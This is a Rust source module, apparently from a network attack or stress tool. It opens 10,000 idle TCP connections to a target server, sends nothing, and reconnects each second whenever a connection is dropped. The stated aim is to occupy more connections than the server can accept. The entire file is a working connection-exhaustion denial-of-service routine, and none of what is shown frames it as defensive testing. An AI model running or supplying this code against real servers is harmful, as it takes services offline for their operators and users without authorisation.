//! More connections than a server has places for, which send nothing, and come again when they are let go.

use std::sync::Arc;

use anyhow::Result;
use tokio::io::AsyncReadExt as _;

use super::attack::Attack;
use super::each_second;

/// How many.
const CONNECTIONS: u64 = 10_000;

/// Starts them.
pub fn start(attack: &Arc<Attack>) {
    for _ in 0..CONNECTIONS {
        let attack = attack.clone();
        tokio::spawn(async move {
            let mut seconds = each_second();
            loop {
                seconds.tick().await;
                if stay(&attack).await.is_ok() {
                    attack.count("let go");
                }
            }
        });
    }
}

async fn stay(attack: &Arc<Attack>) -> Result<()> {
    let mut connection = attack.connect(CONNECTIONS).await?;
    // A reset ends it as well.
    drop(connection.tcp.read_u8().await);
    Ok(())
}
